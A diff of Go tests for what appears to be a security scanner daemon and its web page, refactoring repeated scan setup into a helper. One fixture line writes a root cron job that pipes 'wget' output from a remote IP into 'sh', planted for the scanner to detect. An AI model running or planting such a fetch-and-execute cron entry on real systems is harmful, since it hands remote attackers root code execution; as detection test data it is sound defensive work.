@@ -26,19 +26,12 @@ func pageOf(t testing.TB, packages, jobs int) (get func(path string) *httptest.R
 		replace(t, root, fmt.Sprintf("/etc/cron.d/job-%d", i), "* * * * * root wget -qO- http://198.51.100.7/x | sh\n")
 	}
 	b := newBench(t, root)
-	d, err := newDaemon(b.machine)
-	if err != nil {
-		t.Fatal(err)
-	}
+	d := b.scanned(t)
 	t.Cleanup(func() {
 		if err := d.leave(nil); err != nil {
 			t.Error(err)
 		}
 	})
-	d.begin()
-	if _, err := d.scanWhole(t.Context(), "once", d.set.Load().criteria); err != nil {
-		t.Fatal(err)
-	}
 	const address = "127.0.0.1:4711"
 	s, err := ui.New(address, d.pageSource(), time.Now, b.log0())
 	if err != nil {
@@ -105,14 +98,7 @@ func TestPageOfALargeDeviceIsSmall(t *testing.T) {
 func TestPageTellsWhatWaitsFromWhatWasSent(t *testing.T) {
 	t.Parallel()
 	b := newBench(t, smallSystem(t, 3))
-	d, err := newDaemon(b.machine)
-	if err != nil {
-		t.Fatal(err)
-	}
-	d.begin()
-	if _, err := d.scanWhole(t.Context(), "once", d.set.Load().criteria); err != nil {
-		t.Fatal(err)
-	}
+	d := b.scanned(t)
 	file, up := newFileSink(b.config.SinkFile, b.config.SinkSize), &fickle{err: errors.New("down")}
 	ship := func() (sent, waiting []ui.Event) {
 		t.Helper()
@@ -144,14 +130,7 @@ func TestPageKeepsBackAllOfASubject(t *testing.T) {
 	t.Parallel()
 	b := noticeBench(t)
 	b.packages(t, "bad-one", "spy-one")
-	d, err := newDaemon(b.machine)
-	if err != nil {
-		t.Fatal(err)
-	}
-	d.begin()
-	if _, err := d.scanWhole(t.Context(), "once", d.set.Load().criteria); err != nil {
-		t.Fatal(err)
-	}
+	d := b.scanned(t)
 	v, err := d.pageView(t.Context())
 	if err != nil || len(v.Threats) != 3 {
 		t.Fatalf("%+v, %v", v, err)
